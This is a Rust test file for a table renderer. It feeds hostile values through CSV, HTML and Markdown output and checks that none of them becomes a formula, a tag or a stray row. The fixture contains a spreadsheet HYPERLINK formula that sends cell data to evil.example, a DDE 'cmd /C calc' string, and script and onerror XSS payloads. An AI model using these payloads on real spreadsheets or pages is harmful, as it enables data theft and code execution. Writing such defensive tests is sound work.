//! Hostile names and words: none of them becomes a formula, a tag or a second line.

use law::Lang;

use super::table::{RoleRow, Row, SourceRow, Table};
use super::{TableFormat, render};

const FORMULA: &str = "=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")";
const SCRIPT: &str = "<script>alert(1)</script>";

fn hostile() -> Table {
    let text = |text: &str| text.to_owned();
    Table {
        lang: "en",
        title: text("+1 | <b>"),
        notes: vec![text("@note")],
        head: vec![(text("Tenant"), text("-school\r\n| a | b |"))],
        columns: ["o", "n", "r", "a", "?", "c", "s"].map(text),
        rows: vec![Row {
            object: text("data.person.name"),
            title: text("\t名前"),
            role: text(FORMULA),
            actions: vec![text("read"), text("@write")],
            answer: text("under conditions"),
            mark: "conditional",
            conditions: vec![text("when a is </td><img src=x onerror=alert(1)>"), text("=1+1")],
            sources: vec![text(SCRIPT)],
        }],
        roles_title: text("roles"),
        roles_columns: ["r", "w", "h"].map(text),
        roles: vec![RoleRow { role: text(FORMULA), whose: text("tenant"), holders: text("3") }],
        sources_title: text("sources"),
        sources_columns: ["s", "v", "t"].map(text),
        sources: vec![SourceRow {
            name: text("rule"),
            version: text("1"),
            text: text("x\n| y\r=cmd|' /C calc'!A0"),
        }],
        bounds_title: text("bounds"),
        bounds_columns: ["r", "o", "a", "w"].map(text),
        bounds: vec![[text("＝1"), text("`data.*`"), text("read"), text(SCRIPT)]],
        none: text("none"),
    }
}

#[test]
fn no_cell_of_a_spreadsheet_is_a_formula() {
    let text = render(&hostile(), Lang::En, TableFormat::Csv).expect("a table");
    let rest = text.strip_prefix('\u{feff}').expect("a byte order mark");
    let mut cells = 0;
    let mut reader =
        ::csv::ReaderBuilder::new().has_headers(false).flexible(true).from_reader(rest.as_bytes());
    for record in reader.records() {
        for cell in &record.expect("CSV") {
            cells += 1;
            let first = cell.trim_start().chars().next().unwrap_or(' ');
            assert!(!"=+-@＝＋－＠".contains(first), "{cell}");
            assert!(!cell.contains(char::is_control), "{cell:?}");
        }
    }
    assert!(cells > 30, "{text}");
}

#[test]
fn a_page_shows_hostile_words_and_does_nothing() {
    let page = render(&hostile(), Lang::En, TableFormat::Html).expect("a page");
    for tag in ["<script", "<img", "<b>", "</td><img"] {
        assert!(!page.contains(tag), "{tag}");
    }
    assert!(page.contains("&lt;script&gt;alert(1)&lt;"), "{page}");
    // It needs nothing else, and its header stands on each printed page.
    for outside in ["src=\"", "href=\"", "url(", "@import"] {
        assert!(!page.contains(outside), "{outside}");
    }
    assert!(page.contains("table-header-group") && page.contains("size: A4 landscape"));
}

#[test]
fn no_cell_of_markdown_leaves_its_row() {
    let page = render(&hostile(), Lang::En, TableFormat::Markdown).expect("a page");
    let mut rows = 0;
    for line in page.lines().filter(|line| !line.is_empty()) {
        let cells = line.replace("\\|", "").matches('|').count();
        rows += usize::from(cells > 0);
        // Each table has its number of columns; text outside of tables has none.
        assert!([0, 4, 5, 8].contains(&cells) && (cells == 0 || line.starts_with('|')), "{cells}: {line}");
        assert!(!line.starts_with("| y") && !line.starts_with("| a | b"), "{line}");
    }
    assert_eq!(rows, 12, "{page}");
    for markup in ["<script", "<b>", "<img", "`data"] {
        assert!(!page.replace("\\`", "").contains(markup), "{markup}: {page}");
    }
}
